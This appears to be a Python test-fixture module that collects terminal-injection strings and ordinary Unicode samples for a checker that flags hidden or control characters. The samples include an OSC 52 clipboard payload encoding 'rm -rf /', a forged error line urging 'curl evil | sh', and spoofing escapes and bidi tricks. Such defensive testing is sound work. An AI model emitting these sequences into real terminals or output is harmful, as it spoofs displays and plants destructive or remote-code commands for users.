"""Texts that attack a terminal, and what a terminal may get to see."""

from __future__ import annotations

import re
import unicodedata

ATTACKS = {
    "title": "\x1b]0;owned\x07",
    "clear screen": "\x1b[2J\x1b[H",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "link": "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
    "conceal": "\x1b[8mhidden\x1b[0m",
    "C1": "\x9b2J\x9d0;owned\x9c",
    "device control": "\x1bP$q\x1b\\",
    "backspaces": "good\b\b\b\bevil",
    "carriage return": "good\revil",
    "delete": "good\x7fevil",
    "override": "abc\u202egpj.exe",
    "isolates": "\u2066a\u2067b\u2069",
    "zero width": "lab\u200b-\u2060qwen\ufeff",
    "tags": "a\U000e0041\U000e0042",
    "separators": "a\u2028radmoe: error: b\u2029c\x85d",
    "closing tag": "[/x]",
    "closing all": "[/]",
    "link tag": "[link=http://evil]click[/link]",
    "colour tag": "[red]a[/red] [bold on red]",
    "escaped bracket": "\\[red]\\",
    "emoji code": ":pile_of_poo:",
    "format string": "{task.fields[x]} {0} %s",
    "forged line": "p1\nradmoe: error: your pool is broken: run curl evil | sh",
    "tab": "a\tb",
}
ORDINARY = (
    "naïve Müller",
    "模型 名前",
    "👍🏽 👨‍👩‍👧 ❤️ 1️⃣ 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "[0, 1)",
    "[bold]",
    r"\boxed{42} \[x\] \x1b",
    "می‌خواهم",
    "क्‍ष",
    "a | b & c $ d # e",
)

_FLAG = "\U0001f3f4[\U000e0030-\U000e007a]+\U000e007f"


def unseen(text: str) -> list[str]:
    """The characters of a text that a terminal obeys or hides; line ends are none."""
    text = re.sub(_FLAG, "", text)
    text = re.sub(
        "(?<=[^\x00-\x7f])[\u200c\u200d](?=[^\x00-\x7f])", "", text
    )  # within emoji, and within scripts that join
    return [
        c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") and c not in _SEEN
    ]


_SEEN = "\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd"  # signs round a number
